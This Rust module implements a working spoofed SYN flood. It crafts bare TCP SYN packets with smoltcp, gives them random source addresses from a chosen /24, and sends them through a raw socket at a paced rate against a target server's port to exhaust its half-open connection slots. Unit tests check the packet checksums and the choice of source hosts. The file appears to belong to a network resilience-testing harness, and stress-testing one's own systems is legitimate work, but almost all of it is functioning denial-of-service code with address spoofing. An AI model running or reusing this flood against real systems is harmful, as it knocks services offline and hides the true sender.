//! A spoofed SYN flood: bare SYNs to the session port from random addresses of one /24, at a
//! steady rate for a bounded time, through a raw IPv4 socket (root). The packets are built with
//! `smoltcp::wire`. The spoofed sources never answer the SYN-ACK (nobody owns them, so even
//! their ARP goes unanswered): every SYN the server takes holds a half-open slot until it gives
//! up.

use std::io;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::time::{Duration, Instant};

use smoltcp::phy::ChecksumCapabilities;
use smoltcp::wire::{
    IpAddress, IpProtocol, Ipv4Packet, Ipv4Repr, TcpControl, TcpPacket, TcpRepr, TcpSeqNumber,
};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use super::outcome::{Out, seconds};
use super::pace::send_paced;
use super::rng::Rng;

/// The flood's plan.
pub struct SynFlood {
    /// The server and its port.
    pub to: SocketAddrV4,
    /// The /24 the sources come from (its first three octets).
    pub from_net: [u8; 3],
    /// SYNs per second.
    pub rate: u32,
    /// How long.
    pub duration: Duration,
    /// Seed of the sources, ports and sequence numbers.
    pub seed: u64,
}

/// Host numbers 1..=254 of the /24, except the server's and our own: the spoofed sources.
pub fn source_hosts(net: [u8; 3], avoid: &[Ipv4Addr]) -> Vec<u8> {
    (1..=254u8)
        .filter(|&host| {
            let addr = Ipv4Addr::new(net[0], net[1], net[2], host);
            !avoid.contains(&addr)
        })
        .collect()
}

/// One bare SYN from `src` to `dst` as an IPv4 packet (IP header included).
pub fn syn_packet(src: SocketAddrV4, dst: SocketAddrV4, seq: u32) -> Vec<u8> {
    let tcp = TcpRepr {
        src_port: src.port(),
        dst_port: dst.port(),
        control: TcpControl::Syn,
        seq_number: TcpSeqNumber(seq as i32),
        ack_number: None,
        window_len: 64240,
        window_scale: Some(7),
        max_seg_size: Some(1460),
        sack_permitted: true,
        sack_ranges: [None; 3],
        timestamp: None,
        payload: &[],
    };
    let ip = Ipv4Repr {
        src_addr: *src.ip(),
        dst_addr: *dst.ip(),
        next_header: IpProtocol::Tcp,
        payload_len: tcp.buffer_len(),
        hop_limit: 64,
    };
    let caps = ChecksumCapabilities::default();
    let mut buf = vec![0u8; ip.buffer_len() + tcp.buffer_len()];
    ip.emit(&mut Ipv4Packet::new_unchecked(&mut buf[..]), &caps);
    let at = ip.buffer_len();
    tcp.emit(
        &mut TcpPacket::new_unchecked(&mut buf[at..]),
        &IpAddress::Ipv4(*src.ip()),
        &IpAddress::Ipv4(*dst.ip()),
        &caps,
    );
    buf
}

/// Our own address towards `to` (the one the kernel would pick).
fn local_address(to: SocketAddrV4) -> io::Result<Ipv4Addr> {
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    socket.connect(to)?;
    match socket.local_addr()?.ip() {
        IpAddr::V4(addr) => Ok(addr),
        IpAddr::V6(_) => Err(io::ErrorKind::InvalidData.into()),
    }
}

/// Runs the flood and prints `SUMMARY=synflood SENT= ERRORS= SOURCES= RATE= ELAPSED_S=`
/// (RATE: SYNs per second achieved). Err when the raw socket cannot be opened (needs root).
pub fn syn_flood(plan: &SynFlood, out: &mut Out) -> io::Result<bool> {
    let raw = Socket::new(
        Domain::IPV4,
        Type::from(libc::SOCK_RAW),
        Some(Protocol::from(libc::IPPROTO_RAW)),
    )?;
    let mut avoid = vec![*plan.to.ip()];
    if let Ok(own) = local_address(plan.to) {
        avoid.push(own);
    }
    let hosts = source_hosts(plan.from_net, &avoid);
    if hosts.is_empty() {
        return Err(io::ErrorKind::InvalidInput.into());
    }
    let dst = SockAddr::from(SocketAddr::V4(plan.to));
    let mut rng = Rng::new(plan.seed);
    let start = Instant::now();
    let (sent, errors) = send_paced(plan.rate, plan.duration, |_| {
        let r = rng.next();
        let host = hosts[(r % hosts.len() as u64) as usize];
        let [a, b, c] = plan.from_net;
        let src = SocketAddrV4::new(
            Ipv4Addr::new(a, b, c, host),
            1024 + ((r >> 16) % 64000) as u16,
        );
        let packet = syn_packet(src, plan.to, (r >> 32) as u32);
        raw.send_to(&packet, &dst).is_ok()
    });
    let elapsed = start.elapsed();
    out.line(&[
        ("SUMMARY", "synflood".into()),
        ("SENT", sent.into()),
        ("ERRORS", errors.into()),
        ("SOURCES", hosts.len().into()),
        (
            "RATE",
            ((sent as f64 / elapsed.as_secs_f64()).round() as u64).into(),
        ),
        ("ELAPSED_S", seconds(elapsed)),
    ]);
    Ok(errors == 0)
}

#[cfg(test)]
mod tests {
    use super::*;
    use smoltcp::wire::{IpAddress, TcpPacket};

    #[test]
    fn syn_is_a_valid_bare_syn_with_checksums() {
        let src = SocketAddrV4::new(Ipv4Addr::new(192, 168, 69, 7), 40000);
        let dst = SocketAddrV4::new(Ipv4Addr::new(192, 168, 69, 1), 139);
        let bytes = syn_packet(src, dst, 0xdead_beef);
        let ip = Ipv4Packet::new_checked(&bytes[..]).unwrap();
        assert!(ip.verify_checksum());
        let ip_repr = Ipv4Repr::parse(&ip, &ChecksumCapabilities::default()).unwrap();
        assert_eq!((ip_repr.src_addr, ip_repr.dst_addr), (*src.ip(), *dst.ip()));
        let tcp = TcpPacket::new_checked(ip.payload()).unwrap();
        let (s, d) = (IpAddress::Ipv4(*src.ip()), IpAddress::Ipv4(*dst.ip()));
        assert!(tcp.verify_checksum(&s, &d));
        assert!(tcp.syn() && !tcp.ack() && !tcp.rst() && !tcp.fin());
        assert_eq!((tcp.src_port(), tcp.dst_port()), (40000, 139));
        assert_eq!(tcp.seq_number(), TcpSeqNumber(0xdead_beef_u32 as i32));
    }

    #[test]
    fn sources_avoid_the_server_and_us() {
        let avoid = [Ipv4Addr::new(10, 0, 0, 1), Ipv4Addr::new(10, 0, 0, 100)];
        let hosts = source_hosts([10, 0, 0], &avoid);
        assert_eq!(hosts.len(), 252);
        assert!(!hosts.contains(&1) && !hosts.contains(&100) && !hosts.contains(&255));
        assert_eq!((hosts[0], *hosts.last().unwrap()), (2, 254));
    }
}
